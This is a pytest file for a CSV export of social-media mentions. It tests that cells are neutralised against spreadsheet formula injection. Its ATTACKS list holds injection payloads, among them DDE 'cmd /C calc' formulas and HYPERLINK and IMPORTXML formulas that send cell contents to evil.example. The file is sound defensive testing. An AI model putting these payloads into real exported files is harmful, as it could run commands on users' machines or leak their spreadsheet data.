"""Files of mentions hold every field, and nothing that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from dataclasses import fields
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.export_rows import BOM, COLUMNS, cell, csv_head, csv_lines, row_of, text_of
from core.types import Author, Match, Mention, Post, Standing, State

AT = datetime(2026, 5, 4, 9, 30, tzinfo=UTC)
MENTION = Mention(
    id=7,
    post_id=7,
    post=Post(
        source="forum",
        key="k",
        url="https://example.org/1",
        title='Say "hi", twice',
        text="One\ntwo, three\r\nfour; ご意見 🙂",
        author=Author(handle="@ana", name="=Ana", followers=12),
        said_at=AT,
        rating=4.5,
        engagement=-3,
    ),
    matches=(Match("acme"), Match("acme cloud")),
    standing=Standing(state=State.CLAIMED, owner="Bo", acknowledged_at=AT),
    seen_at=AT,
    sentiment="negative",
    intents=("complaint", "question"),
)

ATTACKS = (
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "|calc",
    "%0A=1",
    "'=1+1",
    "''=1+1",
    "=1+1\x00",
    "\x00=1+1",
    '";=1+1',
    '",=1+1,"',
    '"\r\n=1+1',
    '=IMPORTXML(CONCAT("https://evil.example/?",CONCATENATE(A2:E2)),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "@ana",
)


def read(text: str) -> list[list[str]]:
    """The file as a spreadsheet reads it."""
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("column", ["author", "title", "text", "handle", "url", "owner", "site", "topics"])
def test_no_cell_begins_as_a_formula_does(attack: str, column: str) -> None:
    row = row_of(MENTION) | {column: [attack, "more"] if column == "topics" else attack}
    [cells] = read(csv_lines([row]))
    assert len(cells) == len(COLUMNS), "nor does it make more cells or lines"
    for found in cells:
        # A negative number is one.
        assert found[:1] not in ("\t", "\r", "\n")
        assert found == "-3" or found.lstrip()[:1] not in ("-", *"=+@|%＝＋－＠")


@given(st.text(max_size=60).map(lambda text: text.replace("\x00", "")))
def test_every_text_comes_back_as_it_was(text: str) -> None:
    plain = "".join(char if char >= " " or char in "\t\r\n" else " " for char in text).replace("\x7f", " ")
    [cells] = read(csv_lines([row_of(MENTION) | {"text": text}]))
    assert text_of(cells[COLUMNS.index("text")]) == plain.encode("utf-8", "replace").decode()


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_comes_back_as_it_was_written(attack: str) -> None:
    assert text_of(cell(attack)) == attack.replace("\x00", " ")


def test_half_a_character_breaks_no_file() -> None:
    assert csv_lines([row_of(MENTION) | {"text": "\ud800 half"}]).encode("utf-8")


def test_the_head_says_that_it_is_utf_8() -> None:
    assert csv_head().encode("utf-8").startswith(b"\xef\xbb\xbf")
    assert read(csv_head().removeprefix(BOM)) == [list(COLUMNS)]


def test_a_row_has_every_field_as_it_is() -> None:
    row = row_of(MENTION)
    assert tuple(row) == COLUMNS
    assert row["text"] == MENTION.post.text
    assert row["topics"] == ["acme", "acme cloud"]
    assert row["said_at"] == "2026-05-04T09:30:00+00:00"
    [cells] = read(csv_lines([row]))
    found = dict(zip(COLUMNS, cells, strict=True))
    assert found["engagement"] == "-3"
    assert found["author"] == "'=Ana"
    assert found["handle"] == "'@ana"
    assert found["text"] == MENTION.post.text
    assert found["intents"] == "complaint; question"
    assert found["resolved_at"] == ""


def test_no_field_of_a_post_is_forgotten() -> None:
    own = {field.name for field in fields(Post)} - {"author"} | {field.name for field in fields(Author)}
    assert own - {"name"} <= set(COLUMNS)
